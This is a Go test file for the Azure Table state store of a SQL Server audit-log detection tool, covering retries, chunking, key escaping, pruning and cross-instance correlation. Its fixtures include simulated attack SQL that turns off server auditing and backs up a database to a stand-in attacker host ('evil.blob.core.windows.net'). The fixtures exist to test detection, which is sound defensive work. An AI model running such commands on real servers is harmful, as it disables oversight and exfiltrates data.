package store

import (
	"context"
	"errors"
	"fmt"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/Azure/azure-sdk-for-go/sdk/data/aztables"

	"github.com/xelwatch/xelwatch/detect"
	"github.com/xelwatch/xelwatch/handler/internal/testsupport/azuritetest"
	"github.com/xelwatch/xelwatch/xel/audit"
)

var t0 = time.Date(2026, 11, 18, 14, 0, 0, 0, time.UTC)

func appendID(id string) func([]detect.Entry) []detect.Entry {
	return func(cur []detect.Entry) []detect.Entry {
		return append(slices.Clone(cur), detect.Entry{ID: id, Time: t0, Value: "v-" + id})
	}
}

func entryIDs(es []detect.Entry) []string {
	var out []string
	for _, e := range es {
		out = append(out, e.ID)
	}
	return out
}

func TestUpdateAndGet(t *testing.T) {
	ctx := context.Background()
	f := newFakeTable()
	s := NewState(f, nil)
	if got, err := s.Get(ctx, "fail|sql01|10.0.0.1"); err != nil || got != nil {
		t.Fatalf("Get absent = %v, %v; want nil, nil", got, err)
	}
	for _, id := range []string{"a", "b", "c"} {
		if _, err := s.Update(ctx, "fail|sql01|10.0.0.1", t0.Add(time.Hour), appendID(id)); err != nil {
			t.Fatalf("Update %s: %v", id, err)
		}
	}
	got, err := s.Get(ctx, "fail|sql01|10.0.0.1")
	if err != nil {
		t.Fatal(err)
	}
	if want := []string{"a", "b", "c"}; !slices.Equal(entryIDs(got), want) {
		t.Errorf("entries = %q, want %q", entryIDs(got), want)
	}
	if got, _ := s.Get(ctx, "fail|sql01|10.0.0.2"); got != nil {
		t.Errorf("other key sees %v", got)
	}
}

func TestUpdateRetriesOnConflict(t *testing.T) {
	ctx := context.Background()
	f := newFakeTable()
	s := NewState(f, &StateOptions{MaxAttempts: 5})
	if _, err := s.Update(ctx, "k|1", t0, appendID("a")); err != nil {
		t.Fatal(err)
	}
	f.conflicts = 3
	calls := 0
	_, err := s.Update(ctx, "k|1", t0, func(cur []detect.Entry) []detect.Entry {
		calls++
		return appendID("b")(cur)
	})
	if err != nil {
		t.Fatalf("Update after 3 conflicts: %v", err)
	}
	if calls != 4 {
		t.Errorf("fn called %d times, want 4 (3 lost races + 1)", calls)
	}
	f.conflicts = 10
	_, err = s.Update(ctx, "k|1", t0, appendID("c"))
	if !errors.Is(err, errContention) {
		t.Errorf("err = %v, want errContention", err)
	}
	got, _ := s.Get(ctx, "k|1")
	if want := []string{"a", "b"}; !slices.Equal(entryIDs(got), want) {
		t.Errorf("entries = %q, want %q", entryIDs(got), want)
	}
}

func TestBoundsAndChunks(t *testing.T) {
	ctx := context.Background()
	f := newFakeTable()
	s := NewState(f, nil)
	big := strings.Repeat("é", 2000) // non-ASCII: chunks must not split runes
	_, err := s.Update(ctx, "big|k", t0, func([]detect.Entry) []detect.Entry {
		var es []detect.Entry
		for i := range 2 * MaxStateEntries {
			es = append(es, detect.Entry{ID: fmt.Sprint(i), Time: t0, Value: big})
		}
		return es
	})
	if err != nil {
		t.Fatal(err)
	}
	got, err := s.Get(ctx, "big|k")
	if err != nil {
		t.Fatal(err)
	}
	if len(got) == 0 || len(got) > MaxStateEntries {
		t.Fatalf("entries = %d, want 1..%d", len(got), MaxStateEntries)
	}
	if last := got[len(got)-1]; last.ID != fmt.Sprint(2*MaxStateEntries-1) || last.Value != big {
		t.Errorf("newest entry lost or damaged: id %s, %d bytes", last.ID, len(last.Value))
	}
	for k, r := range f.rows {
		if len(r.body) > 1<<20 {
			t.Errorf("entity %v is %d bytes, over 1 MiB", k, len(r.body))
		}
		if strings.ContainsAny(k[0]+k[1], `/\#?`) {
			t.Errorf("forbidden character in key %v", k)
		}
	}
}

func TestKeys(t *testing.T) {
	tests := []struct{ key, pk string }{
		{"failures|sql01|10.0.0.1", "failures"},
		{`attack|srv|principal|contoso\alice`, "attack"},
		{"Weird/#?\x01|x", "Weird!2F!23!3F!01"}, // escaped like every key component
		{"|", "state"},
	}
	for _, tt := range tests {
		pk, rk := stateKeys(tt.key)
		if pk != tt.pk || len(rk) != 40 {
			t.Errorf("stateKeys(%q) = %q, %q; want pk %q and a 40-hex row key", tt.key, pk, rk, tt.pk)
		}
	}
	if _, a := stateKeys("a|1"); a == func() string { _, b := stateKeys("a|2"); return b }() {
		t.Error("different keys share a row key")
	}
	// The keys of one address's group: one partition of the addr shards,
	// row keys sharing the group's prefix, inside groupRange; another
	// address's keys outside it.
	pk, rk, group := stateLoc("fail|sql01|10.0.0.1")
	if !strings.HasPrefix(pk, "addr") || len(group) != 16 || rk[:17] != group+"-" || len(rk) != 57 {
		t.Fatalf("stateLoc(fail|sql01|10.0.0.1) = %q, %q, %q", pk, rk, group)
	}
	for _, k := range []string{"spray|sql01|10.0.0.1", "failp|sql01|10.0.0.1|bob", "fired|auth-009|sql01|10.0.0.1|bob"} {
		if p, r, g := stateLoc(k); p != pk || g != group || r == rk || !strings.HasPrefix(r, group+"-") {
			t.Errorf("stateLoc(%q) = %q, %q, %q; want partition %q and group %q", k, p, r, g, pk, group)
		}
	}
	if _, r, g := stateLoc("fail|sql01|10.0.0.2"); g == group || strings.HasPrefix(r, group) {
		t.Errorf("another address shares the group: %q %q", r, g)
	}
	if want := "PartitionKey eq '" + pk + "' and RowKey ge '" + group + "-' and RowKey lt '" + group + ".'"; groupRange(pk, group) != want {
		t.Errorf("groupRange = %q, want %q", groupRange(pk, group), want)
	}
}

func TestPrune(t *testing.T) {
	ctx := context.Background()
	f := newFakeTable()
	s := NewState(f, nil)
	for i := range 5 {
		if _, err := s.Update(ctx, fmt.Sprintf("k|%d", i), t0.Add(time.Duration(i)*time.Hour), appendID("x")); err != nil {
			t.Fatal(err)
		}
	}
	n, err := s.Prune(ctx, t0.Add(150*time.Minute))
	if err != nil {
		t.Fatal(err)
	}
	if n != 3 || len(f.rows) != 2 {
		t.Errorf("pruned %d, %d left; want 3 and 2", n, len(f.rows))
	}
}

// TestEngineOnTableState runs a correlation through the engine with the
// table state, split over two engines (two instances) sharing one table.
func TestEngineOnTableState(t *testing.T) {
	f := newFakeTable()
	testEngineAcrossInstances(t, NewState(f, nil), NewState(f, nil))
}

func testEngineAcrossInstances(t *testing.T, a, b detect.State) {
	t.Helper()
	cfg := detect.DefaultConfig()
	e1, err := detect.New(cfg, a)
	if err != nil {
		t.Fatal(err)
	}
	e2, err := detect.New(cfg, b)
	if err != nil {
		t.Fatal(err)
	}
	ctx := context.Background()
	tamper := recordFor("AL", "A", "ALTER SERVER AUDIT Main WITH (STATE = OFF)", 0, 1)
	backup := recordFor("BA", "DB", "BACKUP DATABASE s TO URL = 'https://evil.blob.core.windows.net/c/s.bak'", 10*time.Minute, 2)
	if _, err := e1.Evaluate(ctx, &tamper); err != nil {
		t.Fatal(err)
	}
	fs, err := e2.Evaluate(ctx, &backup)
	if err != nil {
		t.Fatal(err)
	}
	var rules []string
	for _, f := range fs {
		rules = append(rules, f.Rule+"/"+f.Severity.String())
	}
	if !slices.Contains(rules, "AUD-006/critical") {
		t.Errorf("second instance findings = %q, want AUD-006/critical", rules)
	}
}

func TestAzurite(t *testing.T) {
	cs := azuritetest.ConnString(t)
	ctx := context.Background()
	svc, err := aztables.NewServiceClientFromConnectionString(cs, nil)
	if err != nil {
		t.Fatal(err)
	}
	client := svc.NewClient(azuritetest.Name("detstate"))
	if err := EnsureStateTable(ctx, client); err != nil {
		t.Fatal(err)
	}
	if err := EnsureStateTable(ctx, client); err != nil {
		t.Fatalf("EnsureTable twice: %v", err)
	}
	t.Cleanup(func() { _, _ = client.Delete(context.Background(), nil) })

	t.Run("concurrent writers lose nothing", func(t *testing.T) {
		const writers, each = 2, 25
		s1, s2 := NewState(client, &StateOptions{MaxAttempts: 200}), NewState(client, &StateOptions{MaxAttempts: 200})
		var wg sync.WaitGroup
		errs := make(chan error, writers*each)
		for w, s := range []*State{s1, s2} {
			wg.Add(1)
			go func() {
				defer wg.Done()
				for i := range each {
					if _, err := s.Update(ctx, "race|key", t0.Add(time.Hour), appendID(fmt.Sprintf("w%d-%d", w, i))); err != nil {
						errs <- err
					}
				}
			}()
		}
		wg.Wait()
		close(errs)
		for err := range errs {
			t.Fatalf("Update: %v", err)
		}
		// A fresh State reads the table: s1's own copy may be up to
		// ReadTTL old, from before s2's last writes.
		got, err := NewState(client, nil).Get(ctx, "race|key")
		if err != nil {
			t.Fatal(err)
		}
		ids := entryIDs(got)
		slices.Sort(ids)
		if len(slices.Compact(ids)) != writers*each {
			t.Errorf("%d distinct entries, want %d", len(ids), writers*each)
		}
	})

	t.Run("read cache contract", func(t *testing.T) {
		// A State sees its own writes at once and another instance's
		// writes within ReadTTL: until then Get may answer from the copy
		// it last read or wrote.
		clk := &clock{t: t0}
		a := NewState(client, &StateOptions{ReadTTL: time.Second, Now: clk.Now})
		b := NewState(client, nil)
		key := "contract|key"
		if _, err := a.Update(ctx, key, t0.Add(time.Hour), appendID("a1")); err != nil {
			t.Fatal(err)
		}
		if _, err := b.Update(ctx, key, t0.Add(time.Hour), appendID("b1")); err != nil {
			t.Fatal(err)
		}
		if got, _ := a.Get(ctx, key); !slices.Equal(entryIDs(got), []string{"a1"}) {
			t.Errorf("within ReadTTL: %q, want a's own copy [a1]", entryIDs(got))
		}
		clk.Add(1500 * time.Millisecond)
		if got, _ := a.Get(ctx, key); !slices.Equal(entryIDs(got), []string{"a1", "b1"}) {
			t.Errorf("after ReadTTL: %q, want [a1 b1]", entryIDs(got))
		}
		// An update never loses the other instance's write, whatever the
		// cache holds: the stale copy's ETag fails and Update reads.
		if _, err := b.Update(ctx, key, t0.Add(time.Hour), appendID("b2")); err != nil {
			t.Fatal(err)
		}
		if got, _ := a.Update(ctx, key, t0.Add(time.Hour), appendID("a2")); !slices.Equal(entryIDs(got), []string{"a1", "b1", "b2", "a2"}) {
			t.Errorf("update on a stale copy: %q, want [a1 b1 b2 a2]", entryIDs(got))
		}
	})

	t.Run("engine across instances", func(t *testing.T) {
		testEngineAcrossInstances(t, NewState(client, nil), NewState(client, nil))
	})

	t.Run("prune", func(t *testing.T) {
		s := NewState(client, nil)
		if _, err := s.Update(ctx, "old|k", t0.Add(-48*time.Hour), appendID("x")); err != nil {
			t.Fatal(err)
		}
		n, err := s.Prune(ctx, t0.Add(-24*time.Hour))
		if err != nil {
			t.Fatal(err)
		}
		if got, _ := s.Get(ctx, "old|k"); n < 1 || got != nil {
			t.Errorf("pruned %d, old key still has %v", n, got)
		}
		if got, _ := s.Get(ctx, "race|key"); got == nil {
			t.Error("prune removed an unexpired key")
		}
	})
}

// TestEntryPlaceRoundTrip: the place of a split record's last part
// survives the table, and entries written before it existed read back
// with no place.
func TestEntryPlaceRoundTrip(t *testing.T) {
	ctx := context.Background()
	f := newFakeTable()
	last := detect.Place{Offset: 9000, Index: 3}
	if _, err := NewState(f, nil).Update(ctx, "k|1", t0.Add(time.Hour), func([]detect.Entry) []detect.Entry {
		return []detect.Entry{{ID: "f.xel@4096#1", Time: t0, Last: last}, {ID: "f.xel@8192#0", Time: t0}}
	}); err != nil {
		t.Fatal(err)
	}
	got, err := NewState(f, nil).Get(ctx, "k|1")
	if err != nil || len(got) != 2 || got[0].Last != last || got[1].Last != (detect.Place{}) {
		t.Fatalf("entries = %+v, %v; want the last part's place on the first only", got, err)
	}
	for _, r := range f.rows {
		if strings.Count(string(r.body), `\"l\"`) != 1 {
			t.Errorf("entity %s: want one place property (none for a record in one part)", r.body)
		}
	}
	// An entity written by an earlier version.
	old := `{"PartitionKey":"k","RowKey":"x","Expires":"2026-11-18T15:00:00Z","Count":1,"Chunks":1,"E0":"[{\"id\":\"f.xel@4096#1\",\"t\":\"2026-11-18T14:00:00Z\",\"v\":\"sa\"}]"}`
	st, err := decodeState([]byte(old))
	if err != nil || len(st.entries) != 1 || st.entries[0].Last != (detect.Place{}) || st.entries[0].Value != "sa" {
		t.Errorf("old entity = %+v, %v", st.entries, err)
	}
}

// TestEngineReplayOnTableState: a pass evaluated through the table state
// and replayed from the start of the file adds no detection (the places
// of entries survive the table).
func TestEngineReplayOnTableState(t *testing.T) {
	cfg := detect.DefaultConfig()
	recs := []audit.Record{
		recordFor("AL", "A", "ALTER SERVER AUDIT Main WITH (STATE = OFF)", 0, 4096),
		recordFor("AL", "A", "ALTER SERVER AUDIT Main WITH (STATE = OFF)", time.Minute, 8192),
		recordFor("AL", "A", "ALTER SERVER AUDIT Main WITH (STATE = OFF)", 2*time.Minute, 12288),
		recordFor("AL", "A", "ALTER SERVER AUDIT Main WITH (STATE = OFF)", 3*time.Minute, 16384),
		recordFor("AL", "A", "ALTER SERVER AUDIT Main WITH (STATE = OFF)", 4*time.Minute, 20480),
		recordFor("BA", "DB", "BACKUP DATABASE s TO URL = 'https://evil.blob.core.windows.net/c/s.bak'", 5*time.Minute, 24576),
		recordFor("AUSC", "A", "", 6*time.Minute, 28672),
		recordFor("BA", "DB", "BACKUP DATABASE s TO URL = 'https://evil.blob.core.windows.net/c/t.bak'", 7*time.Minute, 32768),
	}
	recs[5].Parts = []audit.Record{{AuditFileOffset: 24576}, {AuditFileOffset: 28672, EventIndex: 1}}
	pass := func(st detect.State) []string {
		e, err := detect.New(cfg, st)
		if err != nil {
			t.Fatal(err)
		}
		var out []string
		for i := range recs {
			fs, err := e.Evaluate(context.Background(), &recs[i])
			if err != nil {
				t.Fatal(err)
			}
			for _, f := range fs {
				out = append(out, f.Rule+":"+f.DetectionID)
			}
		}
		slices.Sort(out)
		return slices.Compact(out)
	}
	f := newFakeTable()
	first := pass(NewState(f, nil))
	if again := pass(NewState(f, nil)); !slices.Equal(again, first) {
		t.Errorf("replay = %q, want %q", again, first)
	}
}
